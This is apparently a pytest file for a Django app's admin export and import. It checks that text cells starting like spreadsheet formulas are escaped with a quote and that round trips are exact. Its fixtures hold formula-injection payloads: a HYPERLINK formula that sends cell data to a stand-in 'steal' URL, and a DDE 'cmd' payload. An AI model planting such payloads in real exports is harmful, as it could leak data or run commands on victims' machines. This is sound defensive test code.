"""Exports carry no formulas (issue #11, finding 8).

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is exported
with a `'` in front, so that a spreadsheet program shows it as text instead of running it
(`=HYPERLINK(…)` would be a live link in the curator's spreadsheet). A value that starts
with `'` itself gets one more, and importing removes one leading `'` from every text cell:
an exported file imports as it was. Numbers are never escaped; empty cells stay empty."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client

from gutbrain import resources
from gutbrain.models import EvidenceOutcome, Medicine
from tests import factories
from tests.gutbrain.admin.browser import confirm, export, upload

HYPERLINK = '=HYPERLINK("https://example.org/steal?d="&A1,"Klik hier")'
# (ATC code, name): a name for every start a spreadsheet reads as a formula, one that
# starts with the escape mark itself, and harmless ones.
NAMES = {
    "N05BA01": HYPERLINK,
    "N05BA02": "+cmd|' /C calc'!A0",
    "N05BA03": "-2+3",
    "N05BA04": "@SUM(1,2)",
    "N05BA05": "\tTAB",
    "N05BA06": "\rCR",
    "N05BA07": "'t Hoofdpijnmiddel",
    "N05BA08": "oxazepam",
    "N05BA09": "a = b",
}
ESCAPED = {code for code, name in NAMES.items() if name != "oxazepam" and name != "a = b"}
# What an import gives back. A carriage return comes back as a newline, escaped or not:
# the library reads a CSV in text mode, and XML (inside an XLSX) normalises it.
IMPORTED = {**NAMES, "N05BA06": "\nCR"}


@pytest.fixture
def curator_client(curator) -> Client:
    client = Client(headers={"accept-language": "en"})
    client.force_login(curator)
    return client


@pytest.fixture
def medicines(db) -> None:
    for code, name in NAMES.items():
        factories.MedicineFactory(atc_code=code, name=name)


def csv_rows(response) -> dict[str, dict]:
    reader = csv.DictReader(io.StringIO(response.content.decode(), newline=""))
    return {row["atc_code"]: row for row in reader}


def xlsx_cells(response) -> dict[str, openpyxl.cell.Cell]:
    """The name cells of the exported sheet by ATC code, as a spreadsheet program reads
    them (formulas as formulas, not their values)."""
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = sheet.iter_rows()
    headers = [cell.value for cell in next(rows)]
    code, name = headers.index("atc_code"), headers.index("name")
    return {row[code].value: row[name] for row in rows}


def test_a_csv_export_puts_a_quote_before_every_text_that_starts_like_a_formula(
    curator_client, medicines
):
    rows = csv_rows(export(curator_client, "medicine", "csv"))

    assert {code: row["name"] for code, row in rows.items()} == {
        code: f"'{name}" if code in ESCAPED else name for code, name in NAMES.items()
    }


def test_an_xlsx_export_has_text_cells_not_formulas(curator_client, medicines):
    cells = xlsx_cells(export(curator_client, "medicine", "xlsx"))

    assert {code: cell.data_type for code, cell in cells.items()} == dict.fromkeys(NAMES, "s")
    assert cells["N05BA01"].value == f"'{HYPERLINK}"
    assert cells["N05BA07"].value == "''t Hoofdpijnmiddel"


def test_numbers_are_not_escaped_and_empty_cells_stay_empty(curator_client, db):
    factories.NutrientFactory(slug="saffron", description_nl="", usual_dose_amount=None)
    summary = factories.EvidenceSummaryFactory()
    EvidenceOutcome.objects.create(
        summary=summary,
        measure_nl="Angst",
        measure_en="Anxiety",
        intervention_change=Decimal("-2.5"),
        comparator_change=None,
        unit="",
        result_nl="-2,5 punten",
        result_en="-2.5 points",
    )

    [outcome] = csv_rows_by(export(curator_client, "evidenceoutcome", "csv"), "measure_nl")
    [nutrient_csv] = [
        row
        for row in csv_rows_by(export(curator_client, "nutrient", "csv"), "slug")
        if row["slug"] == "saffron"
    ]
    book = openpyxl.load_workbook(io.BytesIO(export(curator_client, "nutrient", "xlsx").content))
    header, *rows = book.active.iter_rows(values_only=True)
    [nutrient_xlsx] = [
        r for r in (dict(zip(header, row, strict=True)) for row in rows) if r["slug"] == "saffron"
    ]

    assert outcome["intervention_change"] == "-2.50"
    assert outcome["comparator_change"] == ""
    assert outcome["unit"] == ""
    assert outcome["result_nl"] == "'-2,5 punten"  # text, though it reads like a number
    assert (nutrient_csv["description_nl"], nutrient_csv["usual_dose_amount"]) == ("", "")
    assert nutrient_xlsx["description_nl"] in ("", None)
    assert nutrient_xlsx["usual_dose_amount"] is None
    assert "None" not in nutrient_xlsx.values()


def csv_rows_by(response, key: str) -> list[dict]:
    return sorted(csv.DictReader(io.StringIO(response.content.decode())), key=lambda r: r[key])


@pytest.mark.parametrize("title", ["csv", "xlsx", "json"])
def test_an_exported_file_imports_as_it_was(curator_client, medicines, title):
    exported = export(curator_client, "medicine", title).content
    Medicine.objects.update(name="changed")

    preview = upload(curator_client, "medicine", f"medicijnen.{title}", exported, title)
    confirm(curator_client, preview, "medicine")

    expected = NAMES if title == "json" else IMPORTED
    assert dict(Medicine.objects.values_list("atc_code", "name")) == expected


def test_importing_an_unchanged_export_changes_nothing(curator_client, medicines):
    Medicine.objects.filter(atc_code="N05BA06").update(name="\nCR")
    exported = export(curator_client, "medicine", "csv").content

    preview = upload(curator_client, "medicine", "medicijnen.csv", exported, "csv")

    assert {row.import_type for row in preview.context["result"].rows} == {"skip"}


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("'quoted", "''quoted"),
        ("''", "'''"),
        ("", ""),
        (None, None),
        (Decimal("-1"), Decimal("-1")),
        ("plain", "plain"),
    ],
)
def test_escaping_and_unescaping_are_exact_inverses(value, exported):
    assert resources.escape_formula(value) == exported
    assert resources.unescape_formula(exported) == value
